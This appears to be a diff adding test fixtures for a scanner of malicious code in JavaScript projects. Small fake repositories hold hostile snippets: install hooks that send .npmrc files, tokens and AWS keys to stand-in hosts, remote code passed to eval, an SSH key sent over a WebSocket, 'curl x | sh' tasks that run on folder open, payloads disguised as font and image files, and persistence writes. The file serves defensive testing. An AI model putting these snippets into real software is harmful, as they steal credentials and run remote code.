@@ -1,0 +1,197 @@
+"""Small repositories that each show one thing a scan must find, or must leave alone; see case_rows.py for what is expected."""
+
+from __future__ import annotations
+
+import gzip
+import io
+import tarfile
+import zipfile
+
+Files = dict[str, "str | bytes"]
+
+START = '{"scripts": {"start": "node index.js"}}'
+LOAD = "const r = await fetch('https://x.example.invalid/a'); const t = await r.text();"
+
+
+def zipped(members: dict[str, bytes], links: tuple[str, ...] = ()) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
+        for name, data in members.items():
+            info = zipfile.ZipInfo(name)
+            info.compress_type = zipfile.ZIP_DEFLATED
+            info.external_attr = (0o120777 if name in links else 0o100644) << 16
+            z.writestr(info, data)
+    return out.getvalue()
+
+
+def tarred(members: dict[str, bytes], kinds: dict[str, bytes] | None = None) -> bytes:
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as t:
+        for name, data in members.items():
+            info = tarfile.TarInfo(name)
+            info.size, info.type = len(data), (kinds or {}).get(name, tarfile.REGTYPE)
+            if info.type != tarfile.REGTYPE:
+                info.size, info.linkname = 0, "a"
+            t.addfile(info, io.BytesIO(data) if info.size else None)
+    return out.getvalue()
+
+
+def packed(data: bytes) -> bytes:
+    return gzip.compress(data, mtime=0)
+
+
+def js(code: str, **more: str) -> Files:
+    return {"package.json": START, "index.js": code, **more}
+
+
+CP, FS = "const cp = require('child_process');", "const fs = require('fs');"
+#: Whole projects: a trigger, and what it leads to.
+PROJECTS: dict[str, Files] = {
+    "clean": {"index.js": "export const answer = 42;\n"},
+    "remote-eval": {"package.json": '{"scripts": {"start": "node src/main.js"}}', "src/main.js": "async function load() {\n  const answer = await fetch('https://a.example.invalid/p');\n  eval(await answer.text());\n}\nload();\n"},
+    "secret-sent": {"package.json": '{"scripts": {"start": "node src/main.js"}}', "src/main.js": "const key = process.env.NPM_TOKEN;\nfetch('https://a.example.invalid/in', { method: 'POST', body: key });\n"},
+    "concealed-process": {"package.json": '{"scripts": {"start": "node main.js"}}', "main.js": "const { exec: run } = require('node:child_process');\nconst word = 'Q';\nconst order = String(word.charCodeAt(0) ^ 3);\ndebugger;\nrun(order);\n"},
+    "credentials-sent": {
+        "package.json": '{"scripts": {"postinstall": "node tools/gather.js"}}',
+        "tools/gather.js": "const fs = require('node:fs');\nconst os = require('node:os');\nconst path = require('node:path');\nconst file = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nfetch('https://a.example.invalid/1', { method: 'POST', body: file });\nconst own = { a: process.env.NPM_TOKEN, b: process.env.AWS_ACCESS_KEY_ID };\nfetch('https://a.example.invalid/2', { method: 'POST', body: JSON.stringify(own) });\n",
+    },
+    "folder-open": {
+        ".vscode/tasks.json": '{"tasks": [{"label": "prepare", "command": "node stage.js", "runOptions": {"runOn": "folderOpen"}}]}',
+        "stage.js": "require('./fonts/text.woff2');\n",
+        "fonts/text.woff2": "async function stage() {\n  const answer = await fetch('https://a.example.invalid/s');\n  const code = Buffer.from(await answer.text(), 'base64').toString('utf8');\n  Function(code)();\n}\nstage();\n",
+    },
+    "startup-entry": {
+        "package.json": '{"scripts": {"preinstall": "node tools/setup.js"}}',
+        "tools/setup.js": "const fs = require('node:fs');\nconst os = require('node:os');\nfs.writeFileSync(`${os.homedir()}/.config/autostart/u.desktop`, 'Exec=node u.js');\n",
+    },
+    "both-chains": js(f"fetch('https://x.example.invalid/' + process.env.KEY);\n{LOAD}\neval(t);"),
+    "no-trigger": {"index.js": f"fetch('https://x.example.invalid/' + process.env.KEY);\n{LOAD}\neval(t);"},
+    "disguised": js("require('./icon.woff2');", **{"icon.woff2": f"{LOAD}\nFunction(t)();\nconst k = process.env.X;"}),
+    "concealed-late": js("eval('1');" + " " * 600 + "eval('2');"),
+    "from-ci": {".github/workflows/a.yml": "steps:\n  - run: node tools/run.js\n", "tools/run.js": f"{LOAD}\neval(t);"},
+    "from-config": {"webpack.config.js": "require('./asset.png');", "asset.png": f"{LOAD}\nnew Function(t);"},
+    "npm-chain": {"package.json": '{"scripts": {"start": "npm run a", "a": "yarn run b", "b": "node lib/x.js"}}', "lib/x.js": f"{LOAD}\neval(t);"},
+}
+
+#: Data flow: what reaches a sink, and what doesn't.
+FLOWS: dict[str, Files] = {
+    "uncalled": js(f"async function boot() {{ {LOAD} eval(t); }}"),
+    "unreached": js("console.log('x');", **{"other.js": f"{LOAD} eval(t);"}),
+    "dead-branch": js(f"{LOAD} if (false) {{ eval(t); }}"),
+    "live-branch": js(f"{LOAD} let u = 'x'; if (a) {{ u = t; }} eval(u);"),
+    "loop": js(f"{LOAD} for (const c of [t]) {{ eval(c); }}"),
+    "thrown": js(f"{LOAD}\ntry {{ throw t; }} catch (e) {{\n  eval(e);\n}}"),
+    "finally": js(f"{LOAD} try {{ try {{ throw t; }} finally {{ f(); }} }} catch (e) {{ eval(e); }}"),
+    "taken-apart": js("const { data, ...rest } = await fetch('https://x.example.invalid'); eval(rest.code);"),
+    "field-hit": js(f"{LOAD} const o = {{ a: t, b: 'x' }}; eval(o.a);"),
+    "field-miss": js(f"{LOAD} const o = {{ a: t, b: 'x' }}; eval(o.b);"),
+    "spread": js(f"{LOAD} const o = {{ a: t }}; const p = {{ ...o }}; eval(p.a);"),
+    "template": js(f"{LOAD} eval(`x${{t}}y`);"),
+    "method": js(f"{LOAD} eval(t.trim().slice(1));"),
+    "assigned": js(f"{LOAD} const o = {{}}; Object.assign(o, {{ a: t }}); eval(o.a);"),
+    "pushed": js(f"{LOAD} const l = []; l.push(t); eval(l[0]);"),
+    "values": js(f"{LOAD} eval(Object.values({{ a: t }})[0]);"),
+    "keys": js(f"{LOAD} eval(Object.keys({{ a: t }})[0]);"),
+    "all": js("const [r] = await Promise.all([fetch('https://x.example.invalid')]); eval(await r.text());"),
+    "then-chain": js("fetch('https://x.example.invalid').then(r => r.text()).then(t => { new Function(t)(); });"),
+    "named-callback": js("fetch('https://x.example.invalid').then(r => r.text()).then(eval);"),
+    "socket": js("const s = new WebSocket('wss://x.example.invalid'); s.addEventListener('message', m => { eval(m.data); });"),
+    "events": js("const s = new EventSource('https://x.example.invalid'); s.addEventListener('message', m => { eval(m.data); });"),
+    "chunks": js("const https = require('https'); https.get('https://x.example.invalid', res => { let b = ''; res.on('data', c => { b += c; }); res.on('end', () => { eval(b); }); });"),
+    "decoded": js(f"{LOAD} const c = Buffer.from(t, 'base64').toString(); vm.runInThisContext(c);"),
+    "literal": js("eval('1 + 1');"),
+    "vm-alias": js(f"import {{ runInNewContext as go }} from 'node:vm'; {LOAD} go(t);"),
+    "computed": js(f"{LOAD} global['e' + 'val'](t);"),
+    "called-by-call": js(f"{LOAD} eval.call(null, t);"),
+    "loaded": js(f"{LOAD} require(t);"),
+    "process": js(f"const {{ exec }} = require('child_process'); {LOAD} exec(t);"),
+    "process-apply": js(f"{CP} {LOAD} cp.exec.apply(null, [t]);"),
+    "env-secret": js("fetch('https://x.example.invalid', {body: JSON.stringify(process.env.TOKEN)});"),
+    "env-harmless": js("fetch('https://x.example.invalid/' + process.env.NODE_ENV);"),
+    "file-secret": js("const fs = require('fs'), os = require('os'), path = require('path'); const k = fs.readFileSync(path.join(os.homedir(), '.ssh/id_rsa')); const s = new WebSocket('wss://x.example.invalid'); s.send(k);"),
+    "file-plain": js(f"{FS} const k = fs.readFileSync('README'); fetch('https://x.example.invalid', {{body: k}});"),
+    "clipboard": js("const k = await navigator.clipboard.readText(); fetch('https://x.example.invalid', {body: k});"),
+    "download-run": js(f"{FS} {CP} {LOAD} fs.writeFileSync('/tmp/a', t); fs.chmodSync('/tmp/a', 493); cp.spawn('/tmp/a');"),
+    "download-joined": js(f"{FS} {CP} const path = require('path'), os = require('os'); {LOAD} const p = path.join(os.tmpdir(), 'a'); fs.writeFileSync(p, t); cp.spawn(path.join(os.tmpdir(), 'a'));"),
+    "download-other": js(f"{FS} {CP} {LOAD} fs.writeFileSync('/tmp/a', t); cp.spawn('/tmp/b');"),
+    "run-first": js(f"{FS} {CP} cp.spawn('/tmp/a'); {LOAD} fs.writeFileSync('/tmp/a', t);"),
+    "persistence": js(f"{CP} {FS}\ncp.execSync('crontab /tmp/x');\nfs.writeFileSync('/home/u/.bashrc', 'x');"),
+    "same-line-twice": js(f"{LOAD}\neval(t); eval(t);"),
+    "recursive": js(f"function f(n) {{ return n ? f(n - 1) : ''; }} {LOAD} f(3); eval(f(2));"),
+    "returned": js(f"async function get() {{ {LOAD} return t; }}\nconst u = await get();\neval(u);"),
+    "modules": js("import run, { get as g } from './lib/a.js'; const t = await g(); run(t);", **{"lib/a.js": "export { get } from './b'; export default function (x) { eval(x); }", "lib/b.ts": "export async function get(): Promise<string> { const r = await fetch('https://x.example.invalid'); return r.text(); }"}),
+    "star": js("import { get } from './lib/a.js'; eval(await get());", **{"lib/a.js": "export * from './b.js';", "lib/b.js": f"export async function get() {{ {LOAD} return t; }}"}),
+    "commonjs": js("const { run } = require('./lib'); fetch('https://x.example.invalid').then(async r => { run(await r.text()); });", **{"lib/index.js": "exports.run = x => eval(x);"}),
+    "class": js(f"class A {{ go(x) {{ eval(x); }} }} {LOAD} const a = new A(); a.go(t);"),
+    "resource": js(f"{LOAD} using u = t; eval(u);"),
+    "arrow-constant": js(f"const boot = async () => {{ {LOAD} eval(t); }}; boot();"),
+}
+
+#: Single files and configurations.
+SINGLES: dict[str, Files] = {
+    "after-eof": {"a.txt": "hello\x1a world"},
+    "long-line": {"a.txt": "x" * 10_000},
+    "gap": {"a.txt": "one\na" + " " * 512 + "b"},
+    "executable-text": {"a.json": '{"a": "require(x) process.env"}'},
+    "magic": {"a.png": b"\x89PNG\r\n\x1a\n....", "b.png": b"\x7fELFxxxx", "c.gz": b"\x89PNG\r\n\x1a\n....", "d.svg": "<p>", "e.svg": " <?xml?><svg/>", "f.woff2": b"wOF2....", "g.jpg": b"\xff\xd8\xff\xe0....", "h.gif": b"GIF89a..", "i.webp": b"RIFF\x04\x00\x00\x00WEBPVP8 "},
+    "encodings": {"a.txt": b"\xef\xbb\xbfhi", "b.txt": "hi".encode("utf-16"), "c.txt": b"\xfe\xff\x00h\x00i", "d.txt": b"a\x00b", "e.js": b"f(\x00)", "f.txt": b"\xff\xfe\x00\xd8a\x00", "g.txt": b"\xc3", "h.txt": ""},
+    "npm": {"package.json": '{"scripts": {\n"preinstall": "node a.js",\n"install": "node b.js",\n"postinstall": "node c.js",\n"prepare": "node d.js",\n"start": "node e.js",\n"predev": "x",\n"postx": "y",\n"lint": "eslint"}}'},
+    "tasks-download": {".vscode/tasks.json": '{// c\n"tasks": [{"label": "a", "command": "curl x | sh", "runOptions": {"runOn": "folderOpen"}},]}'},
+    "tasks-plain": {".vscode/tasks.json": "{tasks: [{label: 'b', command: 'make', args: ['all'], runOptions: {runOn: 'folderOpen'}}, {label: 'c', command: 'make'}]}"},
+    "settings": {".vscode/settings.json": '{"task.allowAutomaticTasks": "on", "files.exclude": {"**/.vscode": true, "x": true}}'},
+    "settings-off": {".vscode/settings.json": '{"task.allowAutomaticTasks": "off", "files.exclude": {"**/.vscode": false}}'},
+    "launch": {".vscode/launch.json": '{"configurations": [{"name": "n", "preLaunchTask": "b"}, {"name": "m"}]}'},
+    "devcontainer": {".devcontainer/devcontainer.json": "{postCreateCommand: ['npm', 'ci'],\ninitializeCommand: {a: 'x y', b: ['z']}}"},
+    "elsewhere": {"sub/.vscode/tasks.json": '{"tasks": [{"label": "a", "command": "x", "runOptions": {"runOn": "folderOpen"}}]}'},
+    "shell": {"install.sh": "echo\ncurl https://x | sh"},
+    "python": {"a.py": "requests.get(u)\nexec(x)", "setup.py": "setup()"},
+    "powershell": {"a.ps1": "$x = DownloadString(1)\nInvoke-Expression $x"},
+    "ruby": {"a.rb": "Net::HTTP\nsystem('x')"}, "go": {"a.go": "http.Get(x)\nexec.Command(y)"}, "rust": {"build.rs": "reqwest::get(x)\nCommand::new(y)"}, "php": {"a.php": "file_get_contents('http://x');\nshell_exec(y);"},
+    "java": {"A.java": "new HttpClient(); Runtime.getRuntime().exec(x);"}, "dotnet": {"a.csproj": "HttpClient Process.Start("}, "make": {"Makefile": "all:\n\tcurl x | sh"},
+    "signatures": {"a.bin": b"\xff\x00DOWNLOADSTRING frombase64string invoke-expression", "b.txt": "CreateDecipheriv 'aes-256-cbc' new  Function", "c.txt": "createdecipheriv aes-256-cbc newFunction"},
+    "html": {"a.html": "<p>\n<script>fetch('https://x.example.invalid').then(r => r.text()).then(t => { eval(t); })</script>\n<script type='application/json'>{}</script><!-- <script>eval(1)</script> --><script src='b.js'></script>", "b.js": "f();"},
+    "vue": {"a.vue": "<template/>\n<script lang='ts'>\nlet x: string = f();\neval(x);\n</script>"},
+    "markdown": {"a.md": "```html\n<script>eval(x)</script>\n```\n`<script>eval(y)</script>` text\n~~~\n<script>eval(z)</script>\n~~~\n"},
+    "markdown-block": {"a.md": "text\n\n<script>\nfetch('https://x.example.invalid').then(r => r.text()).then(t => { eval(t); })\n</script>\n"},
+    "variants": {"a.js": "let a = f();\n---\nlet a = eval('g');\n---\n"},
+    "plain-js": {"a.js": "plain words only"},
+    "shebang": {"run": "#!/usr/bin/env node\nconst a = require('child_process');\na.exec('x');"},
+    "members": {"a.zip": zipped({"in/install.sh": b"wget x; bash -c y", "n.tgz": packed(tarred({"d/b.py": b"urlopen(x)\neval(y)"}))})},
+}
+
+#: What makes a scan incomplete.
+INCOMPLETE: dict[str, Files] = {
+    "bad-manifest": {"package.json": "{"}, "bad-tasks": {".vscode/tasks.json": "{tasks: ["}, "twice": {"a.js": "let a = 1; let a = 2; f();"},
+    "traversal": {"a.zip": zipped({"../x": b"1", "ok.txt": b"2"})}, "linked": {"a.zip": zipped({"l": b"/etc/passwd", "ok.txt": b"2"}, ("l",))},
+    "tar-links": {"a.tar": tarred({"a": b"1", "h": b"", "s": b"", "f": b""}, {"h": tarfile.LNKTYPE, "s": tarfile.SYMTYPE, "f": tarfile.FIFOTYPE})},
+    "ratio": {"a.gz": packed(b"\0" * 3_000_000)}, "nested": {"a.zip": zipped({"b.zip": zipped({"c.zip": zipped({"d.zip": zipped({"e.txt": b"1"})})})})}, "broken": {"a.zip": b"PK\x03\x04xxxx", "b.gz": b"\x1f\x8b\x08xxxx"},
+    "deep": {"a.js": "(" * 300 + ")" * 300}, "not-utf8": {"a.js": b"\xff\xff\xff"}, "many-scripts": {"a.html": "<script>a</script>" * 257}, "open-script": {"a.html": "<script>a"},
+    "npm-loop": {"package.json": '{"scripts": {"start": "npm run start"}}'},
+    "unresolved": {"package.json": '{"scripts": {"start": "node gone.js"}}', "a.js": "require('./missing');\nimport('lodash');\nrequire(name);\nrequire('fs');"},
+}
+
+CASES: dict[str, Files] = {**PROJECTS, **FLOWS, **SINGLES, **INCOMPLETE}
+
+#: One text for each content signal, and some that come close.
+SIGNAL_TEXTS = {
+    "long line": "x " * 5000, "eof": "a\x1a b", "eof, controls only": "a\x1a \x1a\x00 ", "gap": "a" + " " * 512 + "b", "blank run": "\t" * 600 + "\r\nb", "base64": "G+" * 300, "hexadecimal": "0" * 512, "escapes": "\\u0041" * 32,
+    "escapes, 31": "\\u0041" * 31, "char codes": "String.fromCharCode(1)", "char codes, quoted": "String['fromCharCode'](1)", "xor": "x.charCodeAt(0) ^ 7", "identifiers": "_0x1 " * 8, "identifiers, 7": "_0x1 " * 7, "debugger": "debugger;",
+    "webdriver": "navigator.webdriver", "machines": "VMware", "locale": "process.env.LANG", "processes": "tasklist | findstr Procmon", "processes only": "ps aux", "timer": "setTimeout(f, 5000)", "timer, short": "setTimeout(f, 4999)",
+    "timer, zeros": "setInterval(f, 05000)", "timer, too far": "setTimeout(" + "a" * 128 + "9999", "timer, too long": "setInterval(f, 99999999999999999999)", "powershell": "Invoke-WebRequest x", "urls": "http://a https://b http://c",
+    "addresses": "1.2.3.4 256.1.1.1 1.2.3.4.5 001.02.3.255", "wallet": "ab" * 20, "wallet, 42": "ab" * 21, "webhook": "hooks.slack.com", "short link": "bit.ly/x", "entropy": "".join(chr(33 + i * 7919 % 89) for i in range(2100)), "nothing": "plain words",
+}
+
+#: path: source read as a module
+SOURCES = {
+    "imports.mjs": "import d, * as n from 'm';\nexport { x } from './y.js';\nexport * from './z.js';\nimport('w');\nrequire('v');\nrequire(name);\n",
+    "names.js": "const cp = require('child_process');\nconst { exec: run } = cp;\nrun('a');\ncp['ex' + 'ec']('b');\nconst f = fetch;\nf('c');\nwindow.eval('d');\ncp.exec.call(null, 'e');\nnew Function('g');\n",
+    "functions.js": "function boot() { eval('a'); }\nconst go = () => { boot(); };\ngo();\nclass K { m() { fetch('b'); } }\n(function () { eval('c'); })();\n",
+    "secrets.js": "const a = process.env.TOKEN;\nconst b = process.env.NODE_ENV;\nconst { KEY } = process.env;\n",
+    "types.ts": "interface A { x: string }\nexport const f = <T,>(x: T): T => x as T;\neval(f<string>('a'));\n",
+    "view.jsx": "const v = <p onClick={() => eval('a')}>b</p>;\n",
+    "commonjs.js": "if (x) return;\neval('a');\n",
+    "empty.js": "// nothing\n",
+    "using.mjs": "using a = open();\nawait using b = open();\neval('c');\n",
+    "twice.js": "let a = 1; let a = 2; f();\n",
+    "wrong.ts": "const = ;\n",
+}
